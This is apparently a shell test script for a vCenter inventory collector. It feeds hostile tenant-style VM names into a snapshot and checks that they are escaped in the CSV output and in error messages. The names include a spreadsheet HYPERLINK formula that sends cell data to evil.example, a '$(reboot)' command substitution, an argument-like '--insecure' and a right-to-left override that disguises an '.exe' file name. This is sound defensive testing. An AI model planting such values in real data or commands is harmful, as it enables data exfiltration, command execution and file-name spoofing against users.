# SPDX-License-Identifier: MIT
# Names come from tenants: what is a formula, markup, a terminal's command, another script or a path comes through a
# vCenter's XML and its own encoding as it is, and is shown escaped.
. "$TOP/tests/pipeline/lib/vcenter.sh"

cat >names.py <<'END2'
import csv, sys
NAMES = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(A1)", "-2+3", "<b>&amp;</b>&#10;]]>", '"quoted", and \'', "a/b\\c%d%2f",
         "%25", "safe\u202etxt.exe", "\U0001f600", "日本語", " spaces  inside ", "x" * 80, "#snapshot", "--insecure", "$(reboot)"]
rows = list(csv.reader(open("in/vms.csv", newline="")))
name = rows[0].index("name")
for row, new in zip(rows[1:], NAMES):
    row[name] = ("'" if new[0] in "=+-@'\t\r" else "") + new
csv.writer(open("in/vms.csv", "w", newline=""), lineterminator="\n").writerows(rows)
END2
cp -r "$snapshot" in
rm in/SHA256SUMS
python3 names.py
succeeds 'the names in a directory' collect in -o expected
sed -i 's/USB device of the host$//' expected/vms.csv
sed -i -E 's/,(vm_affinity|vm_anti_affinity),no,/,\1,yes,/' expected/rules.csv
snapshot=$TMP/in
vcenter_start
collects 0 'the names in a vCenter'
same_tables 'the names in a vCenter' out/s expected

order 'deny?property=config.hardware.numCPU&type=VirtualMachine&id=vm-1008'
collects 1 'a name in an error'
says 'a name in an error' 'VirtualMachine "safe\\u\{202E\}txt\.exe": '
vcenter_stop
finish
